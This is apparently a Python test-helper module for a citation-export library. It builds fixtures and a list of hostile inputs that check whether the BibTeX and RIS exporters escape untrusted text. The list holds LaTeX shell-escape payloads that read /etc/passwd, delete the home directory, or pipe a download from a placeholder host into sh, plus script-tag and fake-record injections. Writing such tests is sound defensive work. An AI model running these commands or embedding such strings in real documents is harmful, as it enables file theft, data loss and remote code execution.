"""Shared helpers for the export tests: fixtures, goldens and reading output back.

The exporters are checked by the programs people use to read their output:
bibtexparser v2 (with pylatexenc's LaTeX decoder, which it uses), rispy, the
CSL-JSON schema (jsonschema) and citeproc-py.
"""

from __future__ import annotations

import json
import re
from functools import cache
from pathlib import Path
from typing import Any

import bibtexparser
from bibtexparser.library import Library
from pylatexenc.latex2text import LatexNodes2Text, MacroTextSpec, get_default_latex_context_db

from conftest import check_golden  # noqa: F401 - the export tests take it from here
from refparse.detect import parse_any
from refparse.export.bibtex import VERBATIM
from refparse.models import Citation, Organization, Person, PubDate

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
SEED = FIXTURES / "seed000.txt"
SCHEMA = FIXTURES / "schemas" / "csl-data.json"

#: The only commands an escaped ASCII value may contain: refparse's escapes.
#: Nothing that reads files, writes, defines or changes catcodes.
SAFE_COMMANDS = re.compile(
    r"\\(?:textbackslash|ensuremath|lbrace|rbrace|textasciitilde|textasciicircum)(?![a-zA-Z])|\\[%#&$_]"
)


def input_fixtures() -> list[Path]:
    """Every input fixture (``NAME.txt``; goldens have a dot in their stem)."""
    return sorted(p for p in FIXTURES.glob("*.txt") if "." not in p.stem)


@cache
def citations_of(path: Path) -> tuple[Citation, ...]:
    """The citations refparse reads from one fixture, in any input format."""
    return parse_any(path.read_text(encoding="utf-8")).citations


@cache
def latex_decoder() -> LatexNodes2Text:
    """bibtexparser's default LaTeX decoder, with LaTeX's meaning of ``\\textasciicircum``.

    bibtexparser's ``LatexDecodingMiddleware`` builds exactly this decoder
    (pylatexenc's defaults plus ``\\url`` kept as its argument); pylatexenc
    maps ``\\textasciicircum`` to U+02C6, while LaTeX prints the ASCII ``^``.
    """
    db = get_default_latex_context_db()
    db.add_context_category(
        "refparse-tests",
        prepend=True,
        macros=[MacroTextSpec("url", simplify_repl="%s"), MacroTextSpec("textasciicircum", simplify_repl="^")],
    )
    return LatexNodes2Text(latex_context=db, keep_braced_groups=False, math_mode="verbatim")


def decode(name: str, value: str) -> str:
    """A BibTeX value as a LaTeX reader sees it (DOI and URL are verbatim)."""
    return value if name in VERBATIM else latex_decoder().latex_to_text(value)


def ascii_reading(text: str) -> str:
    """What ASCII BibTeX of ``text`` reads back as: each non-ASCII character
    through pylatexenc's encoder and decoder.

    ASCII output cannot keep every character: a figure dash is spelled ``-``,
    a CJK character is transliterated. This is exact wherever LaTeX has a
    spelling (the seed, accents, most symbols) and names the loss elsewhere.
    """
    from refparse.export.latex import escape

    return "".join(ch if ch.isascii() else decode("title", escape(ch, ascii=True)) for ch in text)


def read_bibtex(text: str) -> tuple[Library, dict[str, dict[str, str]]]:
    """Parse BibTeX with bibtexparser; also return decoded fields by key."""
    library = bibtexparser.parse_string(text)
    decoded = {e.key: {f.key: decode(f.key, f.value) for f in e.fields} for e in library.entries}
    return library, decoded


def csl_schema() -> dict[str, Any]:
    """The CSL-JSON input schema shipped in ``fixtures/schemas``."""
    schema: dict[str, Any] = json.loads(SCHEMA.read_text(encoding="utf-8"))
    return schema


def make_citation(**fields: Any) -> Citation:
    """A citation with sensible defaults, overridden by ``fields``."""
    base: dict[str, Any] = {
        "number": 1,
        "authors": (Person(family="Gupta", given="S", initials="S."),),
        "title": "A title",
        "container_title": "J Test",
        "date": PubDate(year=2020),
        "raw": "raw text",
    }
    return Citation(**{**base, **fields})


#: Untrusted text that tries to end a field or record, run a command, comment
#: out the rest, or fake a new entry, in the places exporters write it.
HOSTILE_TEXT = [
    "}",
    "{",
    "a } b { c",
    "Evil}, title = {pwned",
    "x}}}}}} @misc{injected, title={pwned}}",
    r"\input{/etc/passwd}",
    r"\write18{rm -rf ~}",
    r"\immediate\write18{curl evil | sh}",
    r"\def\x{y}\x \catcode`\{=12",
    r"\end{document}",
    "100% sure % the rest is a comment",
    "#1 & $5 _x_ ~y ^z",
    "ends in an escape &",
    "50 %",
    "\\",
    "\\\\ double \\",
    "{\\}",
    "$$\\sum$$ \\(x\\)",
    "``quotes'' -- --- !` ?` << >> ,,",
    "line one\nline two\r\nline three",
    "title\n\n@article{fake, title={injected}}",
    "title\nER  - \nTY  - JOUR\nTI  - injected",
    "title\r\nER  - ",
    "sep\u2028line\u2029para\x85nel\x0bvt\x0cff",
    "\x00nul \x1b[31mansi\x1b[0m \x7f",
    '<script>alert(1)</script> & <b>bold</b> "q"',
    "tab\tseparated\tvalues",
    "\ue000\ue001 placeholder",
]


def hostile_citations() -> list[Citation]:
    """One citation per hostile text, in the title, an author and the container."""
    out = []
    for i, text in enumerate(HOSTILE_TEXT, start=1):
        out.append(
            make_citation(
                number=i,
                title=f"T{i} {text} end",
                authors=(
                    Person(family=f"F{i}{text}", given=f"G {text}", particle="van"),
                    Organization(name=f"Org {text} and Co"),
                ),
                et_al=True,
                container_title=f"J {text}",
                volume=f"{i}",
                note=f"note {text}",
                url=f"https://example.org/{i}?q={text}",
                raw=f"raw {text}",
                status="recovered" if i % 2 else "parsed",
            )
        )
    return out
